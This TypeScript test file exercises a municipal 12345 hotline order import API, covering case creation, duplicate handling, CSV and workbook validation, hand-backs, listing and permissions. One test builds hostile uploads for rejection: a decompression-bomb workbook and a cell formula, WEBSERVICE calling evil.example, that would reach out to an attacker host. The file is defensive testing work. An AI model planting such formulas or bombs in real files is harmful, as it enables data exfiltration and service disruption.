import { beforeAll, describe, expect, it } from 'vitest';
import { as } from '../../../test/as';
import { csv } from '../../../test/importing';
import { type Cast, cast, step } from '../../../test/mainJob';
import { aJpeg } from '../../../test/photoFiles';
import { useHouse } from '../../../test/testHouse';
import { anArchive, aWorkbook, headRow, textCell } from '../../../test/workbooks';
import { newId } from '../../platform/ids';
import { readWholeTable } from '../../platform/tables/index';

const test = useHouse({ background: { consumers: true } });
let people: Cast;
beforeAll(async () => {
  people = await cast(test.app, test.here);
});

let last = 0;
const anOrder = (over: object = {}) => ({
  number: `20261118${String(++last).padStart(4, '0')}`,
  words: '市场门口垃圾满溢',
  address: '育新农贸市场东门',
  receivedAt: '2026-11-17T01:00:00.000Z',
  dueAt: '2026-11-19T10:00:00.000Z',
  ...over,
});
const bring = (...orders: object[]) => people.acceptor.post('/api/hotline-orders', { orders });
const bringFile = (...lines: string[]) => people.acceptor.put('/api/hotline-orders/file', csv(...lines), 'text/csv');
const head = '工单编号,诉求内容,受理时间,办理时限,地址,联系电话';

describe('orders of the 12345 hotline', () => {
  it('become cases with their own number and clock beside the city’s; brought again they are the same', async () => {
    const order = anOrder({ contact: '13800001234' });
    const first = await bring(order);
    expect(first).toMatchObject({
      status: 201,
      body: { orders: [{ number: order.number, isNew: true, isPlaced: true }] },
    });
    const { caseId } = first.body.orders[0];
    expect((await people.acceptor.get(`/api/cases/${caseId}`)).body).toMatchObject({
      source: 'hotline12345',
      placeName: '育新农贸市场',
      broadKind: 'cleanliness',
      words: '市场门口垃圾满溢\n地址：育新农贸市场东门',
      contactMasked: '138****1234',
      origin: { handedBy: `12345 ${order.number}`, dueAt: order.dueAt },
    });
    expect(await bring(order)).toMatchObject({ status: 200, body: { orders: [{ caseId, isNew: false }] } });
  });
  it('under a known number with other words are a conflict that names it, and nothing else of the call is taken', async () => {
    const [known, fresh] = [anOrder(), anOrder()];
    await bring(known);
    expect(await bring(fresh, { ...known, words: '别的' })).toMatchObject({
      status: 409,
      body: { numbers: [known.number] },
    });
    const { body } = await people.acceptor.get('/api/hotline-orders');
    expect(body.orders.map(({ number }: { number: string }) => number)).not.toContain(fresh.number);
    expect((await bring(fresh, fresh)).status).toBe(422);
  });
  it('without a place anybody could be sure of wait for the desk to place them', async () => {
    const answer = await bring(anOrder({ address: '某处', words: '路灯不亮' }));
    expect(answer.body.orders[0]).toMatchObject({ isPlaced: false });
    const view = (await people.acceptor.get(`/api/cases/${answer.body.orders[0].caseId}`)).body;
    expect(view).toMatchObject({ state: 'reported', position: null, placement: { point: null } });
  });
  it('come by file; rows that cannot be read are named, and then none is taken', async () => {
    const [good, other] = [anOrder().number, anOrder().number];
    const row = (number: string, at = '2026-11-17 09:00') => `${number},井盖缺失,${at},2026-11-20 18:00,育新农贸市场,`;
    expect(await bringFile(head, row(good), row(other, '2026-02-30 09:00'))).toMatchObject({
      status: 422,
      body: { errors: [{ row: 3, field: '受理时间' }] },
    });
    expect(await bringFile('编号,别的', '1,2')).toMatchObject({
      status: 422,
      body: { missing: ['诉求内容', '受理时间'] },
    });
    expect((await bringFile(head, row(good), row(other))).status).toBe(201);
    expect((await bringFile(head, row(good), row(other))).status).toBe(200);
    const { body } = await people.acceptor.get('/api/hotline-orders');
    expect(body.orders.find(({ number }: { number: string }) => number === good)).toMatchObject({
      receivedAt: '2026-11-17T01:00:00.000Z',
      dueAt: '2026-11-20T10:00:00.000Z',
      light: 'green',
    });
  });
  it('come from no bomb, no wrong file and no formula without its value; nothing of such a file is taken', async () => {
    const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
    const put = (bytes: Buffer, type = xlsx) => people.acceptor.put('/api/hotline-orders/file', bytes, type);
    const before = (await people.acceptor.get('/api/hotline-orders')).body.counts;
    const bomb = aWorkbook({
      rows: `${headRow(...head.split(','))}${'<row><c t="inlineStr"><is><t>x</t></is></c></row>'.repeat(3_000_000)}`,
    });
    expect(bomb.length).toBeLessThan(4 * 1024 * 1024);
    const row = (...cells: string[]) => `${headRow(...head.split(','))}<row r="2">${cells.join('')}</row>`;
    const cells = (number: string) => [number, ...['井盖缺失', '2026-11-17 09:00'].map(textCell)];
    const formula = aWorkbook({ rows: row(...cells('<c><f>WEBSERVICE("http://evil.example")</f></c>')) });
    for (const [name, answer] of [
      ['a bomb', await put(bomb)],
      ['a formula', await put(formula)],
      ['a picture', await put(await aJpeg())],
      ['a picture that says it is a table', await put(await aJpeg(), 'text/csv')],
      ['an archive of something else', await put(anArchive({ mimetype: 'application/epub+zip' }))],
      ['half a workbook', await put(aWorkbook({ rows: row(...cells(textCell('X1'))) }).subarray(0, 900))],
      ['nothing', await put(Buffer.alloc(0))],
    ] as const)
      expect([name, answer.status >= 400 && answer.status < 500], `${name}: ${answer.status}`).toEqual([name, true]);
    expect((await people.acceptor.get('/api/hotline-orders')).body.counts).toEqual(before);
  }, 60_000);
  it('go back once with the answer’s own words, as a file that can be had again', async () => {
    const order = anOrder();
    const { caseId } = (await bring(order)).body.orders[0];
    expect((await people.acceptor.post('/api/hotline-orders/hand-backs', { id: newId() })).status).toBe(409);
    await step(people.dutyChief, caseId, 'void', { reason: 'conditionGone', note: '现场已改', reply: '已经清运干净' });
    const id = newId();
    const back = { status: 201, body: { id, orders: 1 } };
    expect(await people.acceptor.post('/api/hotline-orders/hand-backs', { id })).toMatchObject(back);
    expect(await people.acceptor.post('/api/hotline-orders/hand-backs', { id })).toMatchObject({
      ...back,
      status: 200,
    });
    const file = await people.acceptor.get(`/api/hotline-orders/hand-backs/${id}/file`);
    const { rows } = await readWholeTable(file.body);
    expect(rows.map(({ cells: { 工单编号, 答复内容, 受理时间 } }) => [工单编号, 答复内容, 受理时间])).toEqual([
      [order.number, '已经清运干净', '2026-11-17 09:00'],
    ]);
    const { body } = await people.acceptor.get('/api/hotline-orders?list=handedBack');
    expect(body.orders).toMatchObject([{ number: order.number, handedBackIn: id }]);
  });
  it('are listed by what they wait for, page by page: an answer, overdue by their own clock, the way back', async () => {
    const late = anOrder({ dueAt: '2026-11-17T10:00:00.000Z' });
    const never = anOrder({ dueAt: undefined });
    const placed = (await bring(late, never)).body.orders;
    const numbersOf = async (query: string) =>
      (await people.acceptor.get(`/api/hotline-orders?${query}`)).body.orders.map(
        (row: { number: string }) => row.number,
      );
    expect(await numbersOf('list=overdue')).toEqual([late.number]);
    expect((await numbersOf('list=open')).at(-1)).toBe(never.number); // what has no clock stands last

    const paged: string[] = [];
    for (let after: string | null = ''; after !== null; ) {
      const at: string = after ? `&after=${encodeURIComponent(after)}` : '';
      const { body } = await people.acceptor.get(`/api/hotline-orders?list=open&limit=1${at}`);
      paged.push(body.orders[0].number);
      after = body.next;
    }
    expect(paged).toEqual(await numbersOf('list=open'));

    await step(people.dutyChief, placed[0].caseId, 'void', {
      reason: 'conditionGone',
      note: '现场已改',
      reply: '好了',
    });
    await expect.poll(() => numbersOf('list=answered'), { timeout: 20_000 }).toEqual([late.number]);
    expect(await numbersOf('list=overdue')).toEqual([]);
    expect((await people.acceptor.post('/api/hotline-orders/hand-backs', { id: newId() })).status).toBe(201);
    expect(await numbersOf('list=answered')).toEqual([]);
  });
  it('belong to their city and to whoever takes them in', async () => {
    const order = anOrder();
    await bring(order);
    const elsewhere = await as(test.app, test.there, 'acceptor');
    expect((await elsewhere.get('/api/hotline-orders')).body).toMatchObject({ orders: [], counts: { open: 0 } });
    expect((await elsewhere.post('/api/hotline-orders', { orders: [order] })).status).toBe(201);
    expect((await people.clerk.get('/api/hotline-orders')).status).toBe(403);
    expect((await people.dispatcher.post('/api/hotline-orders', { orders: [anOrder()] })).status).toBe(403);
    expect((await people.dispatcher.get('/api/hotline-orders')).status).toBe(200);
  });
});
